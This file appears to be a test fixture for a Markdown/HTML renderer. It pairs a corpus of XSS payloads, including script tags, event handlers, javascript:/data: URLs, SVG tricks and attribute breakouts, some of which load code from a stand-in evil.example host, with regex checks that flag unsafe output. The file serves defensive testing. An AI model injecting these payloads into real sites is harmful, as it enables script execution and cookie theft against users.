/**
 * A corpus of hostile Markdown/HTML inputs, shared by the Markdown renderer tests (and any
 * later test that needs to prove user content cannot smuggle markup into a page).
 *
 * Every entry is something a commenter or author could type. The renderers must turn each one
 * into HTML with no active content: no script-capable elements, no event-handler attributes,
 * and no link whose URL is not http(s)/mailto (relative URLs are additionally fine in essays).
 */
export const XSS_PAYLOADS: string[] = [
  // ── <script> in many casings, nestings and malformed shapes ─────────────────────────────
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  "<script\n>alert(1)</script\n>",
  "<script>alert(1)",
  "<<script>script>alert(1)<</script>/script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<p><script>alert(1)</script></p>",
  "<div>\n\n<script>alert(1)</script>\n\n</div>",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>",
  "**<script>alert(1)</script>**",
  "text before <script>alert(1)</script> text after",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",

  // ── event handlers ──────────────────────────────────────────────────────────────────────
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=x OnErRoR=alert(1)>",
  '<img src="x" onerror="alert(1)"/>',
  "<img/src=x/onerror=alert(1)>",
  '<img src="x"\nonerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  '<div onmouseover="alert(1)">hover me</div>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example"\nonclick="alert(1)">x</a>',
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "*<svg onload=alert(1)>*",
  "[click](https://ok.example)<svg/onload=alert(1)>",
  '<a href="https://ok.example">ok</a><img src=x onerror=alert(1)>',

  // ── javascript: URLs in links, images, autolinks and references ──────────────────────────
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](&#x6A;avascript:alert(1))",
  "[a](&#0000106;&#0000097;vascript:alert(1))",
  "[a](javascript&#58;alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a]( javascript:alert(1))",
  "[a](<javascript:alert(1)>)",
  "[a](\u0001javascript:alert(1))",
  "[a](javascript://%0aalert(1))",
  "[a](javascript://example.com/%0Aalert(1))",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<JaVaScRiPt:alert(document.cookie)>",
  "javascript:alert(1)",
  "[a][ref]\n\n[ref]: javascript:alert(1)",
  "[a][ref]\n\n[ref]: <JaVaScRiPt:alert(1)>",
  "[ref]\n\n[ref]: &#x6A;avascript:alert(1)",
  '[a][r]\n\n[r]: javascript:alert(1) "title"',
  "![a](javascript:alert(1))",
  "![a](JaVaScRiPt:alert(1))",
  "[![a](javascript:alert(1))](javascript:alert(2))",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  "<a href=javascript&colon;alert(1)>x</a>",
  "## [x](javascript:alert(1))",
  "[^1]\n\n[^1]: [x](javascript:alert(1))",

  // ── data: and vbscript: URLs ──────────────────────────────────────────────────────────────
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](data:text/html,<script>alert(1)</script>)",
  "<data:text/html,alert(1)>",
  "[a][d]\n\n[d]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[a](vbscript:msgbox(1))",
  "[a](VBScript:msgbox(1))",
  "<vbscript:msgbox(1)>",

  // ── SVG, MathML and other embedding elements ──────────────────────────────────────────────
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text x="20" y="20">X</text></a></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">X</math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<button formaction=javascript:alert(1)>x</button>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<isindex action=javascript:alert(1) type=submit>",

  // ── HTML comments, CDATA, processing instructions ────────────────────────────────────────
  "<!--<script>alert(1)</script>-->",
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml <script>alert(1)</script> ?>",

  // ── Markdown link titles and destinations trying to break out of the attribute ────────────
  '[a](http://x "onmouseover=alert(1)")',
  '[a](http://x "\\" onmouseover=\\"alert(1)")',
  "[a](http://x 'x\" onmouseover=\"alert(1)')",
  '[a](https://ok.example/" onmouseover="alert(1))',
  '[a](https://ok.example/"onmouseover="alert(1))',
  '![a](https://ok.example/a.png"onerror="alert(1))',
  '<https://ok.example/"onmouseover="alert(1)>',
  'www.ok.example/"onmouseover="alert(1)',
  '[a][r]\n\n[r]: https://ok.example "x\\" onclick=\\"alert(1)"',
  "[a](https://ok.example/?q=<script>alert(1)</script>)",
  "[a](mailto:x@ok.example?body=<script>alert(1)</script>)",

  // ── backtick tricks ───────────────────────────────────────────────────────────────────────
  "`<script>alert(1)</script>`",
  "``<img src=x onerror=alert(1)>``",
  "`` ` <script>alert(1)</script> ` ``",
  "`</code><script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "```\n</code></pre><script>alert(1)</script>\n```",
  '```js" onmouseover="alert(1)\n1\n```',
  "```<script>alert(1)</script>\nx\n```",

  // ── entity tricks ─────────────────────────────────────────────────────────────────────────
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "\\<script>alert(1)\\</script>",

  // ── GFM constructs carrying HTML ─────────────────────────────────────────────────────────
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "- [ ] <img src=x onerror=alert(1)>",
  "# <script>alert(1)</script>",
  "~~<svg onload=alert(1)>~~",
];

// ── Parse-free safety checks shared by the renderer tests ─────────────────────────────────

/** A start tag, with quoted attribute values that may contain ">" kept whole. */
const START_TAG = /<[a-zA-Z](?:"[^"]*"|'[^']*'|[^'">])*>?/g;

/** Elements that must never come out of a renderer, whatever the input. */
const FORBIDDEN_TAGS = ["script", "iframe", "object", "embed", "svg", "math", "style", "form", "meta", "base", "link"];

/**
 * Raw-text / RCDATA elements (plus <template>): inside them the browser does not see quoted
 * attribute values as such, so `<noscript><p title="</noscript><img onerror=…>">` runs. Since the
 * checks below treat quoted values as inert, these elements must not appear either.
 */
const RAW_TEXT_TAGS = ["noscript", "noembed", "noframes", "xmp", "plaintext", "textarea", "title", "template"];

/** The only inline styles we emit: Shiki's colour variables on highlighted code. */
const SAFE_STYLE = /^(?:\s*(?:--shiki-[a-z-]+\s*:\s*#[0-9a-f]{3,8}|display\s*:\s*grid)\s*;?)*\s*$/i;

/** Attributes that carry a URL (or a whole document) that we do not emit at all. */
const FORBIDDEN_URL_ATTRIBUTES = ["action", "formaction", "xlink:href", "poster", "srcset", "srcdoc", "background", "data"];

const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  quot: '"',
  apos: "'",
  lt: "<",
  gt: ">",
  colon: ":",
  tab: "\t",
  newline: "\n",
};

/** Decodes the character references a serializer may have written into an attribute value. */
export function decodeEntities(value: string): string {
  return value.replace(/&(?:#x([0-9a-f]+)|#(\d+)|([a-z]+));?/gi, (whole, hex?: string, dec?: string, name?: string) => {
    if (hex) return String.fromCodePoint(parseInt(hex, 16));
    if (dec) return String.fromCodePoint(parseInt(dec, 10));
    return NAMED_ENTITIES[name!.toLowerCase()] ?? whole;
  });
}

/** What a browser does to a URL before looking at its scheme: drop tabs/newlines, trim controls. */
function browserNormalisedUrl(raw: string): string {
  return decodeEntities(raw)
    .replace(/[\t\n\r]/g, "")
    .replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, "");
}

const ABSOLUTE_SAFE = /^(?:https?|mailto):/i;

function isRelativeUrl(url: string): boolean {
  // No scheme: there is no ":" before the first "/", "?" or "#".
  return !/^[^/?#]*:/.test(url);
}

export interface SafetyOptions {
  /** Essays may contain <img> (with a safe src); comments may not. */
  allowImages: boolean;
  /** Essays may link to relative URLs and in-page anchors; comments only to http(s)/mailto. */
  allowRelativeUrls: boolean;
}

/**
 * Returns every reason `html` is unsafe (empty when it is safe). Checks are deliberately
 * regex-based rather than parser-based so they do not share the renderers' assumptions.
 * Quoted attribute values are blanked before looking for tag openings and handlers: text inside
 * a quoted value (e.g. a link title `"x&#x22; onclick=…"`) is inert.
 */
export function findUnsafeMarkup(html: string, options: SafetyOptions): string[] {
  const problems: string[] = [];
  const tags = html.match(START_TAG) ?? [];
  const skeletons = tags.map((tag) => tag.replace(/"[^"]*"|'[^']*'/g, '""'));
  const skeleton = html.replace(START_TAG, (tag) => tag.replace(/"[^"]*"|'[^']*'/g, '""'));

  const forbidden = [...FORBIDDEN_TAGS, ...RAW_TEXT_TAGS, ...(options.allowImages ? [] : ["img"])];
  for (const name of forbidden) {
    if (new RegExp(`<${name}`, "i").test(skeleton)) problems.push(`contains a <${name}> tag`);
  }
  // Text is always escaped (`&#x3C;`), so a literal "<!" is a real comment, CDATA or doctype.
  if (/<[!?]/.test(skeleton)) problems.push("contains a comment, CDATA section or processing instruction");

  for (const tag of skeletons) {
    if (/\son[a-z]+\s*=/i.test(tag)) problems.push(`event handler attribute in ${tag}`);
    // Unquoted attribute values would dodge the checks below; the serializer always quotes.
    if (/\s[a-z:-]+=(?!"")/i.test(tag)) problems.push(`unquoted attribute value in ${tag}`);
    for (const attr of FORBIDDEN_URL_ATTRIBUTES) {
      if (new RegExp(`\\s${attr}\\s*=`, "i").test(tag)) problems.push(`${attr} attribute in ${tag}`);
    }
  }

  // Only real tags are inspected: escaped markup shown as text (`&#x3C;a href="…">`) is inert.
  for (const tag of tags) {
    for (const match of tag.matchAll(/\shref="([^"]*)"/gi)) {
      const url = browserNormalisedUrl(match[1]!);
      const ok = ABSOLUTE_SAFE.test(url) || (options.allowRelativeUrls && isRelativeUrl(url));
      if (!ok) problems.push(`unsafe href ${JSON.stringify(match[1])} in ${tag}`);
    }
    for (const match of tag.matchAll(/\sstyle="([^"]*)"/gi)) {
      if (!SAFE_STYLE.test(decodeEntities(match[1]!))) problems.push(`inline style ${JSON.stringify(match[1])} in ${tag}`);
    }
    for (const match of tag.matchAll(/\ssrc="([^"]*)"/gi)) {
      const url = browserNormalisedUrl(match[1]!);
      const isImage = /^<img[\s>/]/i.test(tag);
      const ok = isImage && (/^https?:/i.test(url) || isRelativeUrl(url));
      if (!ok) problems.push(`unsafe src ${JSON.stringify(match[1])} in ${tag}`);
    }
  }

  return problems;
}
